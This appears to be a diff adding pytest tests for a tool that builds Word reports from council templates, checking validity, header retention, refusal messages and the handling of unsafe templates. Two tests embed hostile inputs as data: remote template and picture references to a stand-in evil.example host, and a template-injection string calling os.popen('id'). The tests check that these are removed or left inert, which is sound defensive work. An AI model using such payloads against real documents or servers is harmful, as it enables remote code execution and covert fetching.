@@ -1,0 +1,156 @@
+"""A council's own template: kept as it is, checked whole, and never trusted."""
+
+from __future__ import annotations
+
+import io
+from datetime import date
+from pathlib import Path
+from xml.sax.saxutils import quoteattr
+
+import pytest
+
+from readiness.core.errors import RefusedError
+from readiness.intake.sef_word import plan_import
+from readiness.reports.sef import SefSource, sef_document
+from readiness.reports.word.accessibility import accessibility_findings
+from readiness.reports.word.markup import W_DECLARATION, W
+from readiness.reports.word.package import DOCUMENT, OFFICE, WORD, Package
+from readiness.reports.word.starter import BODY_BOOKMARK, starter_template
+from readiness.reports.word.styles import STYLE_NAMES
+from readiness.reports.word.template import open_template
+
+HEADER = f"<w:hdr {W_DECLARATION}><w:p><w:r><w:t>Fenmarch Council</w:t></w:r></w:p></w:hdr>"
+
+
+def council_template() -> Package:
+    """The starter with a council's header on every page, another on the first, and its own style name."""
+    package = Package.of(starter_template())
+    section = ""
+    for place in ("default", "first"):
+        name = package.free_name("word/header")
+        package.add_part(name, HEADER.encode(), f"{WORD}.header+xml")
+        relation = package.relate(DOCUMENT, f"{OFFICE}/header", name)
+        section += f'<w:headerReference w:type="{place}" r:id="{relation}"/>'
+    document = package.parts[DOCUMENT].decode().replace("<w:sectPr>", f"<w:sectPr>{section}")
+    package.parts[DOCUMENT] = document.replace("</w:sectPr>", "<w:titlePg/></w:sectPr>").encode()
+    styles = package.parts["word/styles.xml"].decode()
+    styles = styles.replace('w:val="SEF Statement"', 'w:val="Fenmarch Body"').replace(
+        "SefStatement", "FenBody"
+    )
+    package.parts["word/styles.xml"] = styles.encode()
+    return package
+
+
+STYLE_MAP = {"statement": "Fenmarch Body"}
+
+
+def test_the_starter_is_a_valid_template(tmp_path: Path) -> None:
+    """What `sef template` writes opens, is valid, and can be used as it is."""
+    from openxml_audit import OpenXmlValidator
+
+    path = tmp_path / "starter.docx"
+    path.write_bytes(starter_template())
+    assert OpenXmlValidator().validate(str(path)).errors == []
+    template, problems = open_template(starter_template())
+    assert problems == []
+    assert set(template.style_ids) == set(STYLE_NAMES)
+
+
+def test_a_council_template_keeps_its_look(source: SefSource, as_at: date, tmp_path: Path) -> None:
+    """Its headers stay, the marking joins them on every kind of page, its styles are used, it reads back."""
+    from openxml_audit import OpenXmlValidator
+
+    template, problems = open_template(council_template().to_bytes(), STYLE_MAP)
+    assert problems == []
+    content = sef_document(source, as_at=as_at, version="1", template=template)
+    path = tmp_path / "council.docx"
+    path.write_bytes(content)
+    assert OpenXmlValidator().validate(str(path)).errors == []
+    package = Package.of(content)
+    assert accessibility_findings(package) == []
+    headers = [part.decode() for name, part in package.parts.items() if name.startswith("word/header")]
+    assert len(headers) == 2
+    assert all("Fenmarch Council" in one and "OFFICIAL-SENSITIVE" in one for one in headers)
+    assert 'w:val="FenBody"' in package.parts[DOCUMENT].decode()
+    plan = plan_import(content, source.index)
+    assert (plan.items, plan.remarks) == ((), ())
+    assert content == sef_document(source, as_at=as_at, version="1", template=template)
+
+
+def test_everything_missing_is_named_at_once() -> None:
+    """A plain document lacks our styles and bookmark: one refusal names each, with what to do."""
+    import docx
+
+    target = io.BytesIO()
+    docx.Document().save(target)
+    with pytest.raises(RefusedError) as refusal:
+        open_template(target.getvalue(), {"statemnt": "Body Text"})
+    detail = refusal.value.detail
+    assert "SEF Statement" in detail
+    assert "SEF Headline" in detail
+    assert BODY_BOOKMARK in detail
+    assert "statemnt" in detail
+    assert "starter template" in refusal.value.hint
+
+
+def test_remote_references_are_taken_out_and_reported() -> None:
+    """A template, picture or field from another place is not fetched, and the user is told."""
+    package = council_template()
+    settings = package.parts["word/settings.xml"].decode()
+    relations = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
+        'Id="rId1"'
+        f' Type="{OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" '
+        'TargetMode="External"/></Relationships>'
+    )
+    package.parts["word/_rels/settings.xml.rels"] = relations.encode()
+    package.parts["word/settings.xml"] = settings.replace(
+        "<w:trackRevisions/>", '<w:attachedTemplate r:id="rId1"/><w:trackRevisions/>'
+    ).encode()
+    instruction = ' INCLUDEPICTURE \\"http://evil.example/x.png\\" '
+    run = "<w:r><w:t>x</w:t></w:r>"
+    field = f"<w:p><w:fldSimple w:instr={quoteattr(instruction)}>{run}</w:fldSimple></w:p>"
+    document = package.parts[DOCUMENT].decode()
+    package.parts[DOCUMENT] = document.replace("<w:body>", f"<w:body>{field}").encode()
+    template, problems = open_template(package.to_bytes(), STYLE_MAP)
+    whole = b"".join(template.package.parts.values())
+    assert b"evil.example" not in whole
+    assert b"attachedTemplate" not in whole
+    assert len(problems) == 2
+    assert all("evil.example" in one.what for one in problems)
+
+
+def test_expressions_are_only_words(source: SefSource, as_at: date) -> None:
+    """What looks like an expression in a template is left standing as text."""
+    package = council_template()
+    expression = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
+    document = package.parts[DOCUMENT].decode()
+    line = f"<w:p><w:r><w:t>{expression}</w:t></w:r></w:p>"
+    package.parts[DOCUMENT] = document.replace("<w:body>", f"<w:body>{line}").encode()
+    template, _ = open_template(package.to_bytes(), STYLE_MAP)
+    root = Package.of(sef_document(source, as_at=as_at, version="1", template=template)).xml(DOCUMENT)
+    assert expression in "".join(root.itertext(f"{{{W}}}t"))
+
+
+def with_part(name: str, content: bytes) -> bytes:
+    """The starter with one part more or other."""
+    package = Package.of(starter_template())
+    package.parts[name] = content
+    return package.to_bytes()
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"", "not a Word file"),
+        (b"PK\x03\x04 cut short", "not a Word file"),
+        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old format"),
+        (with_part("word/vbaProject.bin", b"x"), "macros"),
+        (with_part("word/styles.xml", b"<!DOCTYPE a><w:styles/>"), "DOCTYPE|damaged"),
+        (with_part("word/styles.xml", b"<w:styles"), "damaged"),
+    ],
+)
+def test_what_is_no_safe_template_is_refused(content: bytes, words: str) -> None:
+    """Old formats, macros, broken and hostile files are refused in words."""
+    with pytest.raises(RefusedError, match=words):
+        open_template(content)
